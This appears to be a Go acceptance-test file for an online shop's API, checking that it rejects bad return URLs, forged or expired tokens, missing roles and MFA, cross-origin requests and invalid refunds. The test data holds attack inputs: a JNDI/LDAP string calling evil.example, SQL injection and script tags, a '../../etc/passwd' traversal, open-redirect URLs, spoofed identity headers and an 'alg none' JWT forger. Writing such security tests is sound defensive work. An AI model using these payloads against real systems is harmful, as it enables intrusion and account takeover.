package localshop_test

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"time"

	"till/scripts/acceptance"
	"till/scripts/localcloud/cognito"
	"till/scripts/localshop"
	"till/shared/order"
)

// payments is about paying.
func payments() []badInput {
	pay := func(w *world, id order.ID, values map[string]string) acceptance.Reply {
		body := map[string]string{"gateway": "stripe", "mode": "hosted"}
		for name, v := range values {
			body[name] = v
		}
		return w.Post("/orders/"+string(id)+"/payments", w.Token(id), w.Key(), body)
	}
	return []badInput{
		{"N21 pages of return that are not the shop's", 422, "return_url_not_allowed", func(w *world) replies {
			out, o := replies{}, w.Place(acceptance.Of("mug-blue", 1, "EUR"))
			for _, url := range []string{"https://evil.example/", "javascript:alert(1)", "//evil.example", "https://ok@evil.example/", "https://localhost.evil.example/", `http://localhost:8080\@evil.example`,
				"http://localhost:9999/", "https://löcalhost/", "http://localhost:8080@evil.example/", "data:text/html,x", "/shop", "http://localhost:8080/\r\nX: y", "HTTP://LOCALHOST:8080/"} {
				out[url] = pay(w, o.ID, map[string]string{"return_url": url})
			}
			return out
		}},
		{"N22 gateways and modes that this shop does not offer", 422, "gateway_unavailable", func(w *world) replies {
			euros, yen := w.Place(acceptance.Of("mug-blue", 1, "EUR")), w.Place(acceptance.Of("mug-blue", 1, "JPY"))
			return replies{"unknown": pay(w, euros.ID, map[string]string{"gateway": "adyen"}), "empty": pay(w, euros.ID, map[string]string{"gateway": ""}),
				"mode unknown": pay(w, euros.ID, map[string]string{"mode": "popup"}), "mode empty": pay(w, euros.ID, map[string]string{"mode": ""}),
				"not in this currency": pay(w, yen.ID, map[string]string{"gateway": "square"}), "other letters": pay(w, euros.ID, map[string]string{"gateway": "Stripe"})}
		}},
		{"N24 paying what is paid, cancelled or expired", 409, "order_state_conflict", func(w *world) replies {
			cancelled, expired := w.Place(acceptance.Of("mug-blue", 1, "EUR")), w.Place(acceptance.Of("mug-blue", 1, "EUR"))
			w.Cancel(cancelled.ID).Want(w.t, http.StatusOK)
			w.pass(31 * time.Minute)
			paid := w.Fulfilling(acceptance.Of("mug-blue", 1, "EUR"))
			return replies{"paid": pay(w, paid.ID, nil), "cancelled": pay(w, cancelled.ID, nil), "expired": pay(w, expired.ID, nil)}
		}},
		{"N24 paying while a payment is being made", 409, "payment_in_progress", func(w *world) replies {
			o := w.Place(acceptance.Of("mug-blue", 1, "EUR"))
			w.Follow(w.Form(w.Pay(o.ID, "hosted").RedirectURL, map[string][]string{"iban": {"DE89370400440532013000"}, "action": {"pay"}}))
			return replies{"in another way": pay(w, o.ID, map[string]string{"mode": "embedded"}), "by another gateway": pay(w, o.ID, map[string]string{"gateway": "paypal"}), "cancelling it": w.Cancel(o.ID)}
		}},
		{"N32 the eleventh payment within an hour", 429, "rate_limited", func(w *world) replies {
			o := w.Place(acceptance.Of("mug-blue", 1, "EUR"))
			for i := range 10 { // Each takes the place of the one before.
				pay(w, o.ID, map[string]string{"mode": []string{"hosted", "embedded"}[i%2]}).Want(w.t, http.StatusCreated)
			}
			return replies{"hosted": pay(w, o.ID, nil), "by another gateway": pay(w, o.ID, map[string]string{"gateway": "paypal"})}
		}},
		{"N32 the fourth card, three having been refused", 429, "too_many_attempts", func(w *world) replies {
			stripe, square := w.Place(acceptance.Of("mug-blue", 1, "EUR")), w.Place(acceptance.Of("mug-blue", 1, "EUR"))
			for i := range 3 {
				mode := []string{"hosted", "embedded"}[i%2]
				w.Card(w.Pay(stripe.ID, mode), acceptance.Declined)
				w.pass(time.Second)
			}
			var p struct{ Payment struct{ ID string } }
			pay(w, square.ID, map[string]string{"gateway": "square", "mode": "embedded"}).Want(w.t, http.StatusCreated).Into(w.t, &p)
			confirm := func() acceptance.Reply {
				return w.Post("/orders/"+string(square.ID)+"/payments/"+p.Payment.ID+"/confirm", w.Token(square.ID), "", map[string]string{"token": "cnon:card-nonce-declined"})
			}
			for range 3 {
				confirm().Want(w.t, http.StatusUnprocessableEntity)
			}
			return replies{"another page": pay(w, stripe.ID, map[string]string{"mode": "embedded"}), "another token": confirm()}
		}},
		{"N54 confirming another order's payment", 404, "not_found", func(w *world) replies {
			mine, other := w.Place(acceptance.Of("mug-blue", 1, "EUR")), w.Place(acceptance.Of("mug-blue", 1, "EUR"))
			p := w.Pay(other.ID, "embedded")
			out := replies{}
			for form, id := range map[string]string{"another's": string(p.ID), "unknown": "pay_aaaaaaaaaaaaaaaaaaaaaaaaaa", "malformed": "pay_1", "a path": "..%2f.."} {
				out[form] = w.Post("/orders/"+string(mine.ID)+"/payments/"+id+"/confirm", w.Token(mine.ID), "", map[string]string{"token": "cnon:card-nonce-ok"})
				out[form+" coming back"] = w.Call(http.MethodGet, "/orders/"+string(mine.ID)+"/payments/"+id+"/return", nil, nil)
			}
			return out
		}},
	}
}

// credentials is about who may see and do what.
func credentials() []badInput {
	return []badInput{
		{"N25 an order that is not there, or not yours", 404, "not_found", func(w *world) replies {
			mine, other := w.Place(acceptance.Of("mug-blue", 1, "EUR")), w.Place(acceptance.Of("mug-blue", 1, "EUR"))
			gone := w.Token(mine.ID)
			out := replies{}
			for form, token := range map[string]string{"another order's": w.Token(other.ID), "made up": strings.Repeat("A", 51), "short": "x", "long": strings.Repeat("A", 4000), "cut": gone[:50]} {
				out[form+" view"] = w.Call(http.MethodGet, "/orders/"+string(mine.ID), bearer(token), nil)
				out[form+" pay"] = w.Post("/orders/"+string(mine.ID)+"/payments", token, w.Key(), map[string]string{"gateway": "stripe", "mode": "hosted"})
				out[form+" cancel"] = w.Post("/orders/"+string(mine.ID)+"/cancellation", token, "", nil)
			}
			for _, id := range []string{"ord_aaaaaaaaaaaaaaaaaaaaaaaaaa", "ord_1", "x", "%00", "ORD_" + string(mine.ID[4:])} {
				out["order "+id] = w.Call(http.MethodGet, "/orders/"+id, bearer(gone), nil)
				out["staff, order "+id] = w.AsStaff(http.MethodGet, "/staff/orders/"+id, "", nil)
			}
			w.pass(7*day + time.Second)
			out["expired view"] = w.Call(http.MethodGet, "/orders/"+string(mine.ID), bearer(gone), nil)
			out["expired pay"] = w.Post("/orders/"+string(mine.ID)+"/payments", gone, w.Key(), map[string]string{"gateway": "stripe", "mode": "hosted"})
			out["expired cancel"] = w.Post("/orders/"+string(mine.ID)+"/cancellation", gone, "", nil)
			var body []byte
			for form, r := range out {
				if got := withoutID(r.Body); body == nil {
					body = got
				} else if !strings.HasPrefix(form, "staff") && !bytes.Equal(got, body) {
					w.t.Errorf("%s answers otherwise: %s and %s", form, got, body)
				}
			}
			return out
		}},
		{"N56 links asked for of orders that are not there, or another's", 202, "", func(w *world) replies {
			o, out := w.Place(acceptance.Of("mug-blue", 1, "EUR")), replies{}
			before := len(w.Mails.All())
			for form, path := range map[string]string{"another's address": string(o.ID), "unknown order": "ord_aaaaaaaaaaaaaaaaaaaaaaaaaa", "no order": "ord_1", "a word": "x"} {
				out[form] = w.Post("/orders/"+path+"/link", "", "", map[string]string{"email": "eve@example.com"})
			}
			for form, r := range out {
				if string(r.Body) != "{}" {
					w.t.Errorf("%s: %s", form, r.Body)
				}
			}
			w.pass(time.Minute)
			if got := len(w.Mails.All()); got != before {
				w.t.Errorf("%d mails were sent", got-before)
			}
			return out
		}},
		{"N26 no token where a link's is needed", 401, "unauthorized", func(w *world) replies {
			o, out := w.Place(acceptance.Of("mug-blue", 1, "EUR")), replies{}
			for form, header := range map[string]map[string]string{"none": {}, "empty": {"Authorization": ""}, "Basic": {"Authorization": "Basic dTpw"}, "two": {"Authorization": "Bearer a, Bearer b"},
				"in the query": {}, "in a cookie": {"Cookie": "token=" + w.Token(o.ID)}} {
				path := "/orders/" + string(o.ID)
				if form == "in the query" {
					path += "?token=" + w.Token(o.ID)
				}
				out[form] = w.Call(http.MethodGet, path, header, nil)
			}
			return out
		}},
		{"N26 staff's routes without a token of staff", 401, "", func(w *world) replies {
			o := w.Place(acceptance.Of("mug-blue", 1, "EUR"))
			fresh, err := w.Cloud.StaffToken(cognito.Person{Username: "mona", Groups: []string{"manager"}, MFA: true})
			if err != nil {
				w.t.Fatal(err)
			}
			w.pass(61 * time.Minute)
			out := replies{}
			for form, token := range map[string]string{"none": "", "a shopper's": w.Token(o.ID), "expired": fresh, "alg none": unsigned(fresh), "signature cut": fresh[:len(fresh)-10], "made up": "a.b.c"} {
				header := bearer(token)
				if token == "" {
					header = nil
				}
				out[form] = w.Call(http.MethodGet, "/staff/orders", header, nil)
			}
			return out
		}},
		{"N27 staff without the role", 403, "forbidden", func(w *world) replies {
			o := w.Fulfilling(acceptance.Of("mug-blue", 1, "EUR"))
			as := func(role, method, path string, body any) acceptance.Reply {
				header := bearer(w.SignIn(role))
				header["Idempotency-Key"] = w.Key()
				return w.Call(method, path, header, body)
			}
			staff := "/staff/orders/" + string(o.ID)
			return replies{"no role": as("", http.MethodGet, staff, nil), "a viewer's refund": as("viewer", http.MethodPost, staff+"/refunds", map[string]any{"amount": 1}),
				"a packer's refund": as("packer", http.MethodPost, staff+"/refunds", map[string]any{"amount": 1}), "a packer's price": as("packer", http.MethodPut, "/staff/products/mug-blue", map[string]any{"name": "x", "prices": map[string]int{"EUR": 1}}),
				"a viewer's stock": as("viewer", http.MethodPut, "/staff/stock/mug-blue", map[string]any{"on_hand": 1})}
		}},
		{"N27 staff without a second factor", 403, "mfa_required", func(w *world) replies {
			token, err := w.Cloud.StaffToken(cognito.Person{Username: "max", Groups: []string{"admin"}})
			if err != nil {
				w.t.Fatal(err)
			}
			return replies{"admin": w.Call(http.MethodGet, "/staff/orders", bearer(token), nil)}
		}},
		{"N29 a method that the path does not have", 405, "method_not_allowed", func(w *world) replies {
			out := replies{}
			for _, method := range []string{http.MethodPut, http.MethodDelete, http.MethodTrace, http.MethodPatch, http.MethodGet, http.MethodHead, "BREW"} {
				r := w.Call(method, "/orders", nil, nil)
				if r.Header.Get("Allow") != "POST" {
					w.t.Errorf("%s: Allow %q", method, r.Header.Get("Allow"))
				}
				out[method] = r
			}
			return out
		}},
		{"N30 a browser of another site", 403, "origin_not_allowed", func(w *world) replies {
			out := replies{}
			for _, origin := range []string{"https://evil.example", "null", shopURL + ".evil.example", "http://localhost:8081", "https://localhost:8080", shopURL + "/"} {
				preflight := w.Call(http.MethodOptions, "/orders", map[string]string{"Origin": origin, "Access-Control-Request-Method": "POST"}, nil)
				for name := range preflight.Header {
					if strings.HasPrefix(name, "Access-Control") {
						w.t.Errorf("the preflight of %s got %s", origin, name)
					}
				}
				out[origin] = w.Call(http.MethodPost, "/orders", map[string]string{"Origin": origin, "Idempotency-Key": w.Key()}, acceptance.Of("mug-blue", 1, "EUR"))
			}
			return out
		}},
		{"N31 headers that claim to be somebody else", 201, "", func(w *world) replies {
			return replies{"all of them": w.Call(http.MethodPost, "/orders", map[string]string{"Idempotency-Key": "k", "X-Forwarded-For": "10.0.0.1, 127.0.0.1", "X-User-Id": "admin", "X-Real-Ip": "127.0.0.1",
				"Forwarded": "for=127.0.0.1", "X-Amzn-Oidc-Identity": "admin", "X-Http-Method-Override": "DELETE", "X-Original-Url": "/staff/orders"}, acceptance.Of("mug-blue", 1, "EUR"))}
		}},
		{"N34 text that is meant for whoever reads the log", 201, "", func(w *world) replies {
			a := shippingAddress()
			a["name"], a["company"] = "${jndi:ldap://evil.example/a}", "'; DROP TABLE orders; --<script>"
			out := replies{"in the address": w.Post("/orders", "", "k", basket(func(b acceptance.Basket) { b["shipping_address"] = a })),
				"in headers": w.Call(http.MethodPost, "/orders", map[string]string{"Idempotency-Key": "${jndi:ldap://evil.example/a}", "User-Agent": "x\x1b[31m\u202e${jndi:ldap://evil.example/a}"}, acceptance.Of("mug-blue", 1, "EUR"))}
			w.Call(http.MethodGet, "/products/%0a%1b[31m{\"level\":\"ERROR\"}", nil, nil).Want(w.t, http.StatusNotFound)
			for _, line := range w.log.list() {
				if !json.Valid([]byte(line)) || strings.Contains(line, "jndi") || strings.Contains(line, "\x1b") {
					w.t.Errorf("log: %q", line)
				}
			}
			return out
		}},
		{"N60 a cursor that was altered, or is of another list", 400, "cursor_invalid", func(w *world) replies {
			for i := range 30 {
				w.AsStaff(http.MethodPut, fmt.Sprintf("/staff/products/p-%02d", i), "", map[string]any{"name": "P", "prices": map[string]int{"EUR": 100}, "active": true}).Want(w.t, http.StatusOK)
			}
			var page struct{ Next string }
			w.Call(http.MethodGet, "/products", nil, nil).Want(w.t, http.StatusOK).Into(w.t, &page)
			if page.Next == "" {
				w.t.Fatal("there is one page only")
			}
			out := replies{"of another list": w.AsStaff(http.MethodGet, "/staff/orders?next="+page.Next, "", nil)}
			for form, c := range map[string]string{"cut": page.Next[:len(page.Next)-1], "altered": page.Next[:5] + flipped(page.Next[5:]), "longer": page.Next + "A", "a word": "next", "a path": "../../etc/passwd", "long": strings.Repeat("A", 2000)} {
				out[form] = w.Call(http.MethodGet, "/products?next="+c, nil, nil)
			}
			return out
		}},
	}
}

// flipped is a text with another first letter.
func flipped(s string) string {
	if s[0] == 'A' {
		return "B" + s[1:]
	}
	return "A" + s[1:]
}

func bearer(token string) map[string]string {
	return map[string]string{"Authorization": "Bearer " + token}
}

// withoutID is a problem without what differs in every answer.
func withoutID(body []byte) []byte {
	members := map[string]any{}
	_ = json.Unmarshal(body, &members)
	delete(members, "request_id")
	out, _ := json.Marshal(members)
	return out
}

// unsigned is a token's claims under a header that says that nobody signed.
func unsigned(token string) string {
	return base64.RawURLEncoding.EncodeToString([]byte(`{"alg":"none","typ":"JWT"}`)) + "." + strings.Split(token, ".")[1] + "."
}

// desks is about what staff do.
func desks() []badInput {
	ship := map[string]any{"carrier": "DHL", "tracking_number": "JD0140"}
	return []badInput{
		{"N28 more money back than came", 409, "refund_exceeds_captured", func(w *world) replies {
			o := w.Fulfilling(acceptance.Of("mug-blue", 1, "EUR"))
			out := replies{"a cent more": w.Refund(o.ID, o.Total.Amount+1, w.Key())}
			w.Refund(o.ID, o.Total.Amount-100, w.Key()).Want(w.t, http.StatusCreated)
			out["than is left"] = w.Refund(o.ID, 101, w.Key())
			return out
		}},
		{"N28 refunds that are none", 422, "refund_invalid", func(w *world) replies {
			o, unpaid := w.Fulfilling(acceptance.Of("mug-blue", 1, "EUR")), w.Place(acceptance.Of("mug-blue", 1, "EUR"))
			out := replies{"of what is not paid": w.Refund(unpaid.ID, 1, w.Key())}
			for form, body := range map[string]map[string]any{"zero": {"amount": 0}, "minus": {"amount": -1}, "a fraction": {"amount": 1.5}, "a text": {"amount": "1"}, "nothing": {},
				"another currency": {"amount": 1, "currency": "USD"}, "over int64": {"amount": json.Number("9223372036854775808")}} {
				out[form] = w.AsStaff(http.MethodPost, "/staff/orders/"+string(o.ID)+"/refunds", w.Key(), body)
			}
			return out
		}},
		{"N55 what the order's state does not allow", 409, "order_state_conflict", func(w *world) replies {
			unpaid, shipped := w.Place(acceptance.Of("mug-blue", 1, "EUR")), w.Fulfilling(acceptance.Of("mug-blue", 1, "EUR"))
			early := w.AsStaff(http.MethodPost, "/staff/orders/"+string(unpaid.ID)+"/shipments", "", ship)
			w.Ship(shipped.ID, "JD0140").Want(w.t, http.StatusCreated)
			back := w.Post("/orders/"+string(shipped.ID)+"/returns", w.Token(shipped.ID), w.Key(), map[string]any{"lines": []any{map[string]any{"sku": "mug-blue", "quantity": 1}}, "reason": "damaged"})
			return replies{"cancelling what is shipped": w.Cancel(shipped.ID), "shipping what is not paid": early, "returning what is not delivered": back}
		}},
		{"N55 shipping what is on hold", 409, "order_on_hold", func(w *world) replies {
			o := w.Fulfilling(acceptance.Of("mug-blue", 1, "EUR"))
			w.Hold(o.ID, "manual").Want(w.t, http.StatusOK, "")
			return replies{"on hold": w.Ship(o.ID, "JD0140")}
		}},
		{"N58 approving one's own refund", 403, "second_approver_needed", func(w *world) replies {
			w = open(w.t, func(o *localshop.Options) { o.Parameters = map[string]string{"RefundAlone": "EUR=1000"} })
			o := w.Fulfilling(acceptance.Of("mug-blue", 1, "EUR"))
			var got struct {
				Refund struct{ ID, Status string }
			}
			w.Refund(o.ID, o.Total.Amount, w.Key()).Want(w.t, http.StatusCreated).Into(w.t, &got)
			if got.Refund.Status != "awaiting_approval" {
				w.t.Fatalf("the refund is %s", got.Refund.Status)
			}
			return replies{"the same person": w.AsStaff(http.MethodPost, "/staff/orders/"+string(o.ID)+"/refunds/"+got.Refund.ID+"/approval", "", map[string]string{"decision": "approve"})}
		}},
		{"N59 fewer on hand than are promised", 409, "stock_reserved", func(w *world) replies {
			w.Place(acceptance.Of("tea-assam", 3, "EUR"))
			return replies{"one fewer": w.TrySetStock("tea-assam", 2), "none": w.TrySetStock("tea-assam", 0)}
		}},
	}
}
